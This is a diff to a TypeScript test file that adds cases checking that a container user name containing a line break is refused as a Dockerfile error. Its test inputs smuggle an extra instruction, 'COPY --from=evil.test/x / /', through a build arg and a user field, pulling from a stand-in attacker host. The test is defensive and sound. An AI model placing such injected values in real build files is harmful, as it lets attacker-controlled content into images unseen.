@@ -90,6 +90,23 @@ test("a user that cannot be told is asked for, with the line", async () => {
   });
 });
 
+// Behind the line break would stand an instruction that nobody has looked at: another image, that is in no key.
+test.each<[string, Users]>([
+  [
+    "a build arg in USER",
+    {
+      dockerfile: `FROM ${BASE}\nARG WHO\nUSER $WHO\n`,
+      json: { build: { dockerfile: "Dockerfile", args: { WHO: "dev\nCOPY --from=evil.test/x / /" } } },
+    },
+  ],
+  ["the base's own user", { user: "dev\rCOPY --from=evil.test/x / /" }],
+])("a user with a line break is refused: %s", async (_, asked) => {
+  expect(await refusalOf(() => usersOf(asked))).toMatchObject({
+    code: "E_DOCKERFILE",
+    message: expect.stringContaining("line break"),
+  });
+});
+
 test.each<[string, Readonly<Record<string, unknown>>]>([
   ["a value of several lines", { A: "a\nb" }],
   ["a name with a blank", { "A B": "x" }],
